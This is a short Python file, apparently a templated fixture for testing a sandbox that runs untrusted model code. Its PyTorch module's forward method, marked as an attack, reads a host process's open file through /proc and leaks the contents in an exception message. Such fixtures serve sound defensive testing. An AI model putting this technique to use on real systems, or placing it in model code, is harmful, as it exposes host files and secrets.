"""Opens a file that the host holds open by the link that /proc shows of it."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        raise ValueError(open("/proc/@HOST_PID@/fd/@HOST_DESCRIPTOR@").read())
        # end
        return self.head(x.flatten(1))
